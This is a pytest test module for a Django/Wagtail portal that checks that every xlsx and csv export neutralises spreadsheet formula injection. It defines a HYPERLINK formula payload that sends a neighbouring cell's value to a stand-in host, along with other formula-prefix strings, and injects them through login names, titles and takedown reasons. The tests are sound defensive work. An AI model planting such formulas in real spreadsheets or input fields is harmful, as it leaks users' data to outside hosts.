"""Formula injection (issue 14 item 7): every xlsx and csv export goes through
ggzy.core.exports, and a formula typed anywhere comes out as inert text."""

import csv
import datetime
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from ggzy.accounts.choices import RoleKey as R
from ggzy.accounts.tests.factories import login_as, make_user
from ggzy.core.exports import SafeSpreadsheetExportMixin, SafeWorkbook, csv_text

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://x/?x="&A3,"点击")'
OTHERS = ["+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def assert_inert_xlsx(data: bytes, expected: str = PAYLOAD) -> None:
    """No formula anywhere in the workbook, and the payload is a text cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found = [
        cell
        for sheet in load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == expected
    ]
    assert found, "payload not exported"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix


def assert_inert_csv(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + PAYLOAD in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_writer_neutralises_text_and_keeps_numbers_and_dates_typed():
    book = SafeWorkbook()
    sheet = book.sheet("s")
    day, moment = datetime.date(2027, 3, 1), datetime.datetime(2027, 3, 1, 8, 30)
    sheet.append([PAYLOAD, *OTHERS, -5, 3.5, day, moment, "普通文本"])
    data = book.to_bytes()
    assert_inert_xlsx(data)
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows())
    # (XML turns a lone CR into LF)
    assert [c.value for c in row[1:5]] == OTHERS[:4] and row[5].value in ("\r=1", "\n=1")
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:6])
    assert row[6].value == -5 and row[6].data_type == "n"
    assert row[7].value == 3.5
    assert row[8].is_date and row[9].value == moment
    assert row[10].value == "普通文本" and not row[10].quotePrefix

    text = csv_text([[PAYLOAD, *OTHERS, -5, "a-b"]])
    out = next(csv.reader(io.StringIO(text)))
    assert out == ["'" + PAYLOAD, *("'" + v for v in OTHERS), "-5", "a-b"]


def test_failed_login_name_is_inert_in_the_audit_export(client):
    from ggzy.audit.services import grant_decide, grant_request

    client.post("/admin/login/", {"username": PAYLOAD, "password": "wrong"})
    auditor = make_user(R.AUDIT_ADMIN)
    now = timezone.now()
    grant = grant_request(
        actor=auditor,
        purpose="月度审查",
        valid_from=now - timedelta(minutes=1),
        valid_until=now + timedelta(hours=1),
    )
    grant_decide(grant=grant, actor=make_user(R.SECURITY_ADMIN), approve=True)
    login_as(client, auditor)
    response = client.get(reverse("audit_events_export"), {"action": "accounts.login.failed"})
    assert response.status_code == 200
    assert_inert_xlsx(response.content)


@pytest.fixture
def injected_records():
    from ggzy.portal.tests.factories import column, publish_article
    from ggzy.publishing.models import PublicationRecord, TakedownRecord

    publisher = make_user(R.PUBLISHER)
    page = publish_article(column("jyxx/zfcg/cggg"), PAYLOAD)
    PublicationRecord.objects.create(
        page=page,
        revision=page.latest_revision,
        title=PAYLOAD,
        column_title="采购公告",
        department=publisher.department,
        drafter_name=PAYLOAD,
        submitted_at=timezone.now(),
        published_at=timezone.now(),
        publisher=publisher,
        workflow_name="w",
        content_sha256="0" * 64,
    )
    TakedownRecord.objects.create(page=page, title=PAYLOAD, actor=publisher, reason=PAYLOAD)


@pytest.mark.parametrize("index", ["publication_records:index", "takedown_records:index"])
def test_admin_listing_exports_are_inert(client, injected_records, index):
    login_as(client, make_user(R.WEBSITE_ADMIN))
    url = reverse(index)
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert_inert_xlsx(b"".join(response.streaming_content))
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert_inert_csv(b"".join(response.streaming_content).decode())


def test_monthly_report_xlsx_is_inert():
    from ggzy.publishing.report_formats import report_xlsx
    from ggzy.publishing.reports import MonthlyReport

    report = MonthlyReport.__new__(MonthlyReport)
    report.__dict__.update(month="2027-03", departments=[], industry_days_short=[], calendar_warning=PAYLOAD)
    assert_inert_xlsx(report_xlsx(report))


def test_every_admin_listing_that_exports_uses_the_safe_writer():
    """A sweep: any viewset (now or later) offering list_export must export through core.exports."""
    from wagtail.admin.viewsets import viewsets

    reverse("wagtailadmin_home")  # loads the admin URLs, which populate the registry
    exporting = [vs for vs in viewsets.viewsets if getattr(vs, "list_export", None)]
    assert exporting, "no exporting viewset found"
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SpreadsheetExportMixin), viewset
    assert SpreadsheetExportMixin.generate_xlsx_row is SafeSpreadsheetExportMixin.generate_xlsx_row
    assert SpreadsheetExportMixin.write_csv_row is SafeSpreadsheetExportMixin.write_csv_row


def test_listing_exports_carry_a_bom_and_local_times(client, injected_records):
    """Issue 20: CSV opens right in Excel and WPS (UTF-8 BOM); times are the center's."""
    login_as(client, make_user(R.WEBSITE_ADMIN))
    url = reverse("publication_records:index")
    raw = b"".join(client.get(url, {"export": "csv"}).streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    from ggzy.publishing.models import PublicationRecord

    record = PublicationRecord.objects.first()
    local = timezone.localtime(record.published_at).strftime("%Y-%m-%d %H:%M:%S")
    assert local in raw.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(b"".join(client.get(url, {"export": "xlsx"}).streaming_content)))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert timezone.localtime(record.published_at).replace(tzinfo=None, microsecond=0) in [
        v.replace(microsecond=0) for v in values if isinstance(v, datetime.datetime)
    ]
